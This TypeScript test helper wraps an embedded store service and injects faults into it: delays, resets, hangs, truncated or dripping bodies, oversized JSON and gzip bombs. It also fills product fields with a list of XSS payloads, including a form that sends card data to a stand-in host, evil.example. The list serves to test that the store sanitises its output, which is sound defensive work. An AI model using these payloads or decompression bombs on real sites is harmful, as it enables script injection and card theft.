import { once } from "node:events";
import { Readable } from "node:stream";
import { setTimeout as wait } from "node:timers/promises";

import type { ServedProduct } from "../../app/embedded-store/catalogue";
import { createEmbeddedStore, type Shop } from "../../app/embedded-store/service.server";

/** One fault: the calls it applies to (the first `times`, by default all) and its effect. */
export type FaultRule = {
  match: "products" | "product" | "variants" | "checkout" | "any";
  query?: string; // only calls whose query has this, such as one page of the list
  times?: number;
  delay?: number; // ms before anything else
  reset?: true | "after"; // 'after': the call is processed, but its response is lost
  hang?: true; // no headers, until the request is aborted
  redirect?: string;
  html?: string; // status 200, text/html
  status?: number; // with `body` as JSON, else the service's error shape
  body?: unknown; // status 200
  huge?: number; // bytes of valid JSON
  gzipBomb?: number; // bytes after decompression
  brokenJson?: true; // the first half of the body, as a complete response
  stall?: true; // the first half, then nothing
  drip?: number; // ms between pieces of 16 bytes
  stock?: Record<string, number>; // variant id to quantity; makes the stock managed
  removed?: string[]; // product and variant ids
  hostile?: string; // product id: hostile HTML in title and texts
  patch?: { productId: string; fields: Record<string, unknown> };
};

/** The calls by method and path; the checkout's own pages only meet faults of any call. */
const CALLS = {
  products: /^GET \/store\/[^/]+\/products$/,
  product: /^GET \/store\/[^/]+\/products\/[^/]+$/,
  variants: /^GET \/store\/[^/]+\/variants$/,
  checkout: /^POST \/store\/[^/]+\/checkout$/,
  page: /^\w+ \/checkout(?:\/|$)/,
};

const HOSTILE_HTML = [
  "<script>window.pwned=1</script>",
  '<img src=x onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"></svg>',
  '<a href="javascript:window.pwned=1">link</a>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<form action="https://evil.example"><input name="card"></form>',
  "<style>body{display:none}</style></script><!--",
].join("");

/** For the server to reset the connection. */
export class ConnectionReset extends Error {}

const JSON_TYPE = { "Content-Type": "application/json; charset=utf-8" };

/** A body that is generated while it is read. */
const stream = (pieces: Iterable<Buffer> | AsyncIterable<Buffer>) =>
  Readable.toWeb(Readable.from(pieces, { objectMode: false })) as ReadableStream<BufferSource>;

/** Valid JSON: an empty product list with padding. */
function* padded(bytes: number) {
  yield Buffer.from('{"count":0,"products":[],"padding":"');
  const block = Buffer.alloc(65_536, "x");
  for (let left = bytes; left > 0; left -= block.length) yield block;
  yield Buffer.from('"}');
}

function errorAnswer({ status, body }: FaultRule): Response {
  if ([204, 205, 304].includes(status!)) return new Response(null, { status });
  const error = { code: "unknown_error", type: "unknown_error", message: "Fault" };
  return Response.json(body ?? error, { status });
}

type Genuine = () => Promise<Response> | Response;

/** The answer under one rule; null if it only delays, or changes products. */
async function answerUnder(
  rule: FaultRule,
  { signal }: Request,
  genuine: Genuine,
): Promise<Response | null> {
  const whole = async () => Buffer.from(await (await genuine()).arrayBuffer());
  const half = async () => {
    const bytes = await whole();
    return bytes.subarray(0, bytes.length / 2);
  };
  const untilAborted = async () => {
    if (!signal.aborted) await once(signal, "abort");
    throw new Error("The request was aborted");
  };
  async function* thenNothing(bytes: Buffer) {
    yield bytes;
    await untilAborted();
  }
  async function* inDrops(bytes: Buffer, ms: number) {
    for (let at = 0; at < bytes.length; at += 16) {
      await wait(ms, undefined, { signal });
      yield bytes.subarray(at, at + 16);
    }
  }
  const respond = (body: BodyInit, headers: Record<string, string> = JSON_TYPE) =>
    new Response(body, { headers });

  if (rule.delay) await wait(rule.delay, undefined, { signal });
  if (rule.reset === "after") await genuine();
  if (rule.reset) throw new ConnectionReset();
  if (rule.hang) return untilAborted();
  if (rule.redirect) return Response.redirect(rule.redirect);
  if (rule.html) return respond(rule.html, { "Content-Type": "text/html; charset=utf-8" });
  if (rule.status) return errorAnswer(rule);
  if (rule.body !== undefined) return Response.json(rule.body);
  if (rule.huge) return respond(stream(padded(rule.huge)));
  if (rule.gzipBomb) {
    const zipped = stream(padded(rule.gzipBomb)).pipeThrough(new CompressionStream("gzip"));
    return respond(zipped, { ...JSON_TYPE, "Content-Encoding": "gzip" });
  }
  if (rule.brokenJson) return respond(new Uint8Array(await half()));
  if (rule.stall) return respond(stream(thenNothing(await half())));
  if (rule.drip) return respond(stream(inDrops(await whole(), rule.drip)));
  return null;
}

function changedCatalogue(products: ServedProduct[], rules: FaultRule[]): ServedProduct[] {
  const removed = rules.flatMap((rule) => rule.removed ?? []);
  const stock = Object.assign({}, ...rules.map((rule) => rule.stock)) as Record<string, number>;
  const isLeft = ({ id }: { id: string }) => !removed.includes(id);
  return products.filter(isLeft).map((product) => ({
    ...product,
    ...(rules.some(({ hostile }) => hostile === product.id) && {
      title: HOSTILE_HTML,
      subtitle: HOSTILE_HTML,
      description: `<p>Before</p>${HOSTILE_HTML}`,
      additional_info: product.additional_info.map((info) => ({
        ...info,
        description: HOSTILE_HTML,
      })),
    }),
    variants: product.variants
      .filter(isLeft)
      .map((variant) =>
        variant.id in stock
          ? { ...variant, manage_inventory: true, inventory_quantity: stock[variant.id]! }
          : variant,
      ),
    // Patches come last, because they may break a product's shape.
    ...(Object.assign(
      {},
      ...rules.map(({ patch }) => patch?.productId === product.id && patch.fields),
    ) as object),
  }));
}

/** The embedded store with injected faults; `handle` rejects if a fault resets the connection. */
export function createFaultyStore(shop: Shop) {
  const faults: FaultRule[] = [];
  return {
    /** The active rules; `times` is how often each still applies. */
    faults,
    async handle(request: Request): Promise<Response> {
      const { pathname, search } = new URL(request.url);
      const asked = `${request.method} ${pathname}`;
      const call = Object.entries(CALLS).find(([, pattern]) => pattern.test(asked))?.[0];
      const rules = faults.filter(
        ({ match, query = "", times }) =>
          call && (match === "any" || match === call) && search.includes(query) && times !== 0,
      );
      for (const rule of rules) if (rule.times !== undefined) rule.times -= 1;
      const products = changedCatalogue(shop.products, rules);
      const genuine = () => createEmbeddedStore({ ...shop, products }).handle(request);
      for (const rule of rules) {
        const answer = await answerUnder(rule, request, genuine);
        if (answer) return answer;
      }
      return genuine();
    },
    /** Replaces the active rules. */
    fault: (...rules: FaultRule[]) => {
      faults.splice(0, faults.length, ...rules.map((rule) => ({ ...rule })));
    },
    /** No faults. */
    reset() {
      faults.length = 0;
    },
  };
}
